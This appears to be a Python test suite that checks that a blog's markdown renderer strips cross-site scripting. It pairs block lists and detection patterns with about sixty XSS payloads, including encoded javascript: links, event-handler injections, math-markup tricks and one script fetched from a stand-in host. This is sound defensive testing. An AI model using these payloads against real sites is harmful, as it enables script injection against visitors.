"""The renderer's output is safe whatever the author types."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from blog.markdown import markdownify, render

FORBIDDEN_TAGS = {
    "script", "iframe", "svg", "style", "object", "embed", "form", "base", "meta",
    "link", "details", "button", "textarea", "frame", "frameset", "applet",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset"}
DANGEROUS_URL = re.compile(r"^(?:javascript|vbscript|data):")
EVENT_HANDLER = re.compile(r"<[a-z][^>]*\son\w+\s*=", re.IGNORECASE)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    lowered = html.lower()
    for tag in ("<script", "<iframe", "<svg", "<style", "<object", "<embed"):
        assert tag not in lowered, tag
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name != "style" or tag in ("th", "td"), (tag, name)
            if name in URL_ATTRIBUTES:
                # Browsers ignore ASCII whitespace and control characters in schemes.
                squeezed = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert not DANGEROUS_URL.match(squeezed), (tag, name, value)
    # The sanitizer must not leave an attribute that only hides in a quoted value.
    for tag_text in re.findall(r"<[^>]*>", html):
        unquoted = re.sub(r'"[^"]*"', '""', tag_text)
        assert not EVENT_HANDLER.search(unquoted), tag_text


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    '<a href="javascript:alert(1)">x</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](  javascript:alert(1)  )",
    "[x](java%0ascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
    "[x](https://example.com 'a\" onclick=\"alert(1)')",
    '![a" onerror="alert(1)](x.png)',
    '![x](x.png "t\\" onerror=\\"alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=alert(1)\nx = 1\n```",
    '```html\n<script>alert(1)</script>\n<img src=x onerror="alert(1)">\n```',
    "Text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "$\\href{javascript:alert(1)}{x}$",
    "\\(\\href{javascript:alert(1)}{click}\\)",
    "$\\text{<script>alert(1)</script>}$",
    "$$\n\\text{</math><img src=x onerror=alert(1)>}\n$$",
    "\\[\n\\style{background:url(javascript:alert(1))}{x}\n\\]",
    '$\\color{red" onmouseover="alert(1)}{x}$',
    "```math\n\\href{javascript:alert(1)}{x}\n```",
    "# <img src=x onerror=alert(1)>",
    '## "><script>alert(1)</script>',
    "| <script>alert(1)</script> | x |\n|---|---|\n| [a](javascript:x) | b |",
    "- [ ] <img src=x onerror=alert(1)>",
    "www.example.com/<script>alert(1)</script>",
    'https://example.com/"onmouseover="alert(1)',
    '<https://example.com/"onmouseover="alert(1)>',
    "> <iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "**<a href=javascript:alert(1)>bold</a>**",
]


def test_corpus_has_at_least_thirty_payloads():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_does_not_survive(payload):
    rendered = render(payload)
    assert_safe(rendered.html)
    assert_safe(markdownify(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_inside_other_constructs_does_not_survive(payload):
    wrapped = (
        f"- item\n\n  > {payload}\n\n| a |\n|---|\n| {payload} |\n\n[^n]: {payload}"
    )
    assert_safe(render(wrapped).html)


def test_raw_html_is_escaped_not_dropped():
    html = render("<b>bold</b> and <script>x</script>").html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "&lt;script&gt;" in html


def test_math_href_produces_no_link():
    html = render("$\\href{javascript:alert(1)}{x}$").html
    assert "<math" in html
    assert "href" not in html.split("<annotation")[0]


def test_math_text_keeps_angle_brackets_as_text():
    html = render("$\\text{a<b>c}$").html
    assert "<mtext>a&lt;b&gt;c</mtext>" in html


MARKDOWN_ALPHABET = st.sampled_from(
    list("[]()<>!*_`~$\\#-|:;\"'=&/ \n\t\r^{}%@.+1aAxé中文")
    + ["javascript:", "on", "onerror=", "<script>", "```", "$$", "\\(", "\\[", "[^1]"]
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text())
def test_render_never_raises_on_arbitrary_text(text):
    rendered = render(text)
    assert isinstance(rendered.html, str)
    assert rendered.reading_minutes >= 1
    assert rendered.language in ("zh-hans", "en")
    assert_safe(rendered.html)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(MARKDOWN_ALPHABET, max_size=80).map("".join))
def test_sanitized_output_has_no_script_capable_attribute(text):
    rendered = render(text)
    assert_safe(rendered.html)
    assert_safe(markdownify(text))
